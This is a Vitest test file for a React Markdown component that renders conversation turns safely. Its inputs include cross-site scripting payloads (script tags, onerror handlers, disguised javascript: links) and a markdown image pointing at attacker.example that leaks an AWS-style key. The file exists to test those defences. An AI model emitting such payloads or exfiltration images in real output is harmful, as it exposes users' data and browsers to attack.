// A turn's markdown is untrusted text: rendered by React itself (server renderer, no DOM), nothing in
// it may become markup that runs or loads — raw HTML, script links, images — while code is highlighted.
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import Markdown, { safeUrl } from "./Markdown";
import { argumentsMarkdown, fenced, prettyJson, turnCaption, turnMarkdown } from "./turns";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("Markdown", () => {
  it("renders GitHub markdown and highlights fenced code", () => {
    const out = html("**bold** and `x`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f():\n    return 1\n```");
    expect(out).toContain("<strong>bold</strong>");
    expect(out).toContain("<table>");
    expect(out).toMatch(/<code class="hljs language-python"><span class="hljs-keyword">def<\/span>/);
  });

  it("shows raw HTML as text: no element, no handler", () => {
    const out = html('<img src=x onerror="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)">x</a>');
    expect(out).not.toMatch(/<img|<script|<a /i);
    expect(out).toContain("&lt;script&gt;");
  });

  it("drops script and data links, keeps web and mail links (opened apart)", () => {
    for (const href of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "vbscript:x",
    ]) {
      const out = html(`[click](${href.replace(/ /g, "%20")})`);
      expect(out, href).not.toMatch(/href=/);
    }
    expect(html("[docs](https://example.com/a)")).toContain(
      'href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow"',
    );
    expect(safeUrl("mailto:a@example.com")).toBe("mailto:a@example.com");
    expect(safeUrl("/relative")).toBe("");
  });

  it("never loads an image: it shows as text", () => {
    const out = html("![secret](https://attacker.example/leak?d=AKIA123) ![x](javascript:alert(1))");
    expect(out).not.toMatch(/<img/i);
    expect(out).toContain("[image: secret] (https://attacker.example/leak?d=AKIA123)");
  });
});

describe("turn text", () => {
  it("formats JSON as a JSON code block, the rest as written", () => {
    expect(prettyJson('{"a":1}')).toBe('{\n  "a": 1\n}');
    expect(prettyJson("not json")).toBeNull();
    expect(turnMarkdown('{"temp":21}')).toBe('```json\n{\n  "temp": 21\n}\n```');
    expect(turnMarkdown("# Title")).toBe("# Title");
    expect(argumentsMarkdown("a=1")).toBe("```\na=1\n```");
  });

  it("fences code with more backticks than it holds, so it cannot close its fence early", () => {
    expect(fenced("x ```` y")).toBe("`````\nx ```` y\n`````");
    const out = html(argumentsMarkdown("```\n<img src=x onerror=alert(1)>\n```"));
    expect(out).not.toMatch(/<img/i);
  });

  it("captions a tool result by the call it answers", () => {
    expect(turnCaption({ role: "tool", content: "x", toolCallId: "c1" })).toBe("result of c1");
    expect(turnCaption({ role: "user", content: "x", name: "ana" })).toBe("ana");
    expect(turnCaption({ role: "user", content: "x" })).toBeNull();
  });
});
